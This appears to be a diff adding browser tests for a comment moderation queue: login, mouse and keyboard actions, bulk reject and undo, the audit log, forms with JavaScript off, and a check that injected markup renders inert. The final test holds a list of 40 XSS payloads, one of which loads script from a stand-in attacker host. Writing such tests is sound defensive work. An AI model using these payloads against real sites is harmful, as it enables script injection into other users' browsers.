@@ -1,0 +1,269 @@
+"""The review queue in real headless Chromium: log in, work the queue with the mouse and with the
+keyboard alone, bulk-reject, undo, see the audit entry, plain forms with JavaScript off, and 40
+XSS payloads rendered inert."""
+
+from __future__ import annotations
+
+import threading
+from pathlib import Path
+
+import pytest
+from sqlalchemy import insert
+from werkzeug.serving import make_server
+
+from review_helpers import PASSWORD, add_comment, reload
+from service.tables import Moderator as ModeratorRow, utcnow
+
+pytestmark = pytest.mark.browser
+
+ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
+
+
+@pytest.fixture(scope="module")
+def browser():
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(
+            executable_path="/usr/bin/chromium",
+            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def site(make_app, password_hash):
+    """The app on SQLite, served on a free loopback port; yields (app, base URL)."""
+    app = make_app(MODERATION_QUEUE_PAGE_SIZE="60")
+    with app.extensions["store"].engine.begin() as connection:
+        connection.execute(insert(ModeratorRow), [
+            {"name": "ann", "password_hash": password_hash, "active": True,
+             "created_at": utcnow(), "must_change_password": False}])
+    server = make_server("127.0.0.1", 0, app, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield app, f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    thread.join(timeout=5)
+    server.server_close()
+
+
+def _watch(page):
+    """Collect what must never happen: dialogs (alert/confirm/prompt) and script errors."""
+    events = {"dialogs": [], "errors": []}
+    page.on("dialog", lambda dialog: (events["dialogs"].append(dialog.message), dialog.dismiss()))
+    page.on("pageerror", lambda error: events["errors"].append(str(error)))
+    page.on("console", lambda message: message.type == "error"
+            and events["errors"].append(message.text))
+    return events
+
+
+@pytest.fixture
+def page(browser):
+    context = browser.new_context()
+    page = context.new_page()
+    page.set_default_timeout(10_000)
+    page.events = _watch(page)
+    yield page
+    context.close()
+
+
+def _login(page, base):
+    page.goto(base + "/review/")
+    assert "/auth/login" in page.url  # not logged in: sent to the login page
+    page.fill("#name", "ann")
+    page.fill("#password", PASSWORD)
+    page.click("button[type=submit]")
+    page.wait_for_url(base + "/review/")
+
+
+def _no_reload_marker(page):
+    page.evaluate("window.__sameDocument = true")
+
+
+def _still_same_document(page) -> bool:
+    return page.evaluate("window.__sameDocument === true")
+
+
+def test_mouse_approve_reject_bulk_reject_undo_and_audit(site, page):
+    app, base = site
+    calm = add_comment(app, "The new ramps are a real improvement.", spam=0.1, abuse=0.05)
+    rude = add_comment(app, "Only an idiot would pay for this bridge.", minutes=1)
+    spam = [add_comment(app, f"casino bonus pills offer {n}", minutes=2 + n) for n in range(3)]
+    _login(page, base)
+    _no_reload_marker(page)
+
+    item = page.locator(f"#c{calm.id}")
+    item.locator("button.approve").click()
+    page.wait_for_selector(f"#c{calm.id}[data-status=published]")
+    assert "Approved 1 comment" in page.locator("#status").inner_text()
+
+    rude_item = page.locator(f"#c{rude.id}")
+    assert rude_item.locator("mark.abuse").inner_text() == "idiot"
+    rude_item.locator("select[name=reason]").select_option("abuse")
+    rude_item.locator("button.reject").click()
+    page.wait_for_selector(f"#c{rude.id}[data-status=rejected]")
+
+    for comment in spam:
+        page.locator(f"#c{comment.id} input.select").check()
+    page.locator("#bulk select[name=reason]").select_option("spam")
+    page.locator("#bulk button[value=reject]").click()
+    for comment in spam:
+        page.wait_for_selector(f"#c{comment.id}[data-status=rejected]")
+    assert "Rejected (spam) 3 comments" in page.locator("#status").inner_text()
+    assert {reload(app, c.id).decision_reason for c in spam} == {"spam"}
+
+    page.locator("#undo button").click()  # undoes the whole bulk action
+    for comment in spam:
+        page.wait_for_selector(f"#c{comment.id}[data-status=pending]")
+    assert _still_same_document(page)  # every action above updated the page in place
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(ARTIFACTS / "review-queue.png"), full_page=True)
+
+    page.click("text=Audit log")
+    rows = page.locator("tr.audit-row")
+    assert rows.count() == 8  # approve, reject, 3 bulk rejects, 3 undos
+    first = rows.first.inner_text()
+    assert "ann" in first and "undo" in first
+    assert page.events == {"dialogs": [], "errors": []}
+
+
+def test_keyboard_alone(site, page):
+    app, base = site
+    first = add_comment(app, "First: fine comment", spam=0.9, abuse=0.0)
+    second = add_comment(app, "Second: casino spam", spam=0.8, abuse=0.0)
+    third = add_comment(app, "Third: off topic", spam=0.7, abuse=0.0)
+    fourth = add_comment(app, "Fourth", spam=0.6, abuse=0.0)
+    fifth = add_comment(app, "Fifth", spam=0.5, abuse=0.0)
+    _login(page, base)
+    _no_reload_marker(page)
+    page.keyboard.press("?")
+    assert page.locator("#help").is_visible()
+    page.keyboard.press("Escape")
+    assert not page.locator("#help").is_visible()
+
+    assert page.locator(".item.current").get_attribute("id") == f"c{first.id}"
+    page.keyboard.press("a")  # approve the first; the cursor moves on to the next
+    page.wait_for_selector(f"#c{first.id}[data-status=published]")
+    page.wait_for_selector(f"#c{second.id}.current")
+    page.keyboard.press("s")  # reject as spam
+    page.wait_for_selector(f"#c{second.id}[data-status=rejected]")
+    page.wait_for_selector(f"#c{third.id}.current")
+    page.keyboard.press("r")
+    assert page.locator("#reason-prompt").is_visible()
+    page.keyboard.press("3")  # off-topic
+    page.wait_for_selector(f"#c{third.id}[data-status=rejected]")
+    assert reload(app, third.id).decision_reason == "off-topic"
+    page.keyboard.press("u")  # undo the off-topic rejection
+    page.wait_for_selector(f"#c{third.id}[data-status=pending]")
+    assert reload(app, third.id).decided_by is None
+    page.keyboard.press("j")
+    page.keyboard.press("k")
+    assert page.locator(".item.current").get_attribute("id") == f"c{third.id}"
+    page.keyboard.press("j")
+    page.keyboard.press("x")
+    page.keyboard.press("j")
+    page.keyboard.press("x")
+    assert page.locator("#queue input.select:checked").count() == 2
+    page.keyboard.press("Tab")  # to the bulk form's controls: all reachable without a mouse
+    page.focus("#bulk button[value=reject]")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f"#c{fourth.id}[data-status=rejected]")
+    page.wait_for_selector(f"#c{fifth.id}[data-status=rejected]")
+    assert _still_same_document(page)
+    assert page.events == {"dialogs": [], "errors": []}
+
+
+def test_plain_forms_work_with_javascript_off(site, browser):
+    app, base = site
+    comment = add_comment(app, "Works without scripts")
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    try:
+        _login(page, base)
+        page.locator(f"#c{comment.id} select[name=reason]").select_option("other")
+        page.locator(f"#c{comment.id} button.reject").click()
+        page.wait_for_load_state()
+        assert "Rejected (other) 1 comment" in page.locator("#flashes").inner_text()
+        assert reload(app, comment.id).status == "rejected"
+    finally:
+        context.close()
+
+
+XSS = [
+    "<script>window.__xss=1;alert(1)</script>",
+    "<img src=x onerror=\"window.__xss=1;alert(1)\">",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<form action=javascript:alert(1)><button>go</button></form>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><script>alert(1)</script></template>",
+    "{{7*7}} {% raw %}${alert(1)}{% endraw %}",
+    "javascript:alert(1)",
+    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+    "<img srcset=\",,,,,x\" onerror=alert(1)>",
+    "<x contenteditable onblur=alert(1)>lose focus</x>",
+    "<script>document.body.insertAdjacentHTML('beforeend','<b id=injected>')</script>",
+    "<b id=injected>injected</b>",
+]
+
+
+def test_xss_payloads_render_inert(site, page):
+    app, base = site
+    assert len(XSS) >= 30
+    for n, payload in enumerate(XSS):
+        add_comment(app, payload + " casino idiot", author=payload[:200], minutes=n,
+                    url="javascript:alert(1)", permalink="javascript:alert(1)",
+                    reasons=[payload[:60]])
+    _login(page, base)
+    page.wait_for_load_state("networkidle")
+    assert page.locator("#queue .item").count() == len(XSS)
+    # Interact a little, as a moderator would, so event-handler payloads get their chance.
+    page.mouse.move(200, 300)
+    page.keyboard.press("j")
+    page.keyboard.press("j")
+    page.wait_for_timeout(300)
+    assert page.events == {"dialogs": [], "errors": []}
+    assert page.evaluate("window.__xss") is None
+    assert page.locator("#injected").count() == 0
+    scripts = page.evaluate("Array.from(document.scripts).map(s => s.getAttribute('src'))")
+    assert scripts == ["/static/review/queue.js"]
+    handlers = page.evaluate("""Array.from(document.querySelectorAll('*')).flatMap(
+        el => Array.from(el.attributes).filter(a => a.name.startsWith('on')).map(a => a.name))""")
+    assert handlers == []
+    assert page.locator("a[href^='javascript:'], iframe, object, embed, svg, img").count() == 0
+    # The payloads are shown to the moderator, as text.
+    assert XSS[0] in page.locator("#queue").inner_text()
+    # And after a decision the re-rendered item (inserted by the page script) is inert too.
+    page.keyboard.press("s")
+    page.wait_for_selector("#queue .item[data-status=rejected]")
+    page.goto(base + "/review/audit")
+    page.goto(base + f"/review/comments/1")
+    assert page.events == {"dialogs": [], "errors": []}
+    assert page.locator("#injected").count() == 0
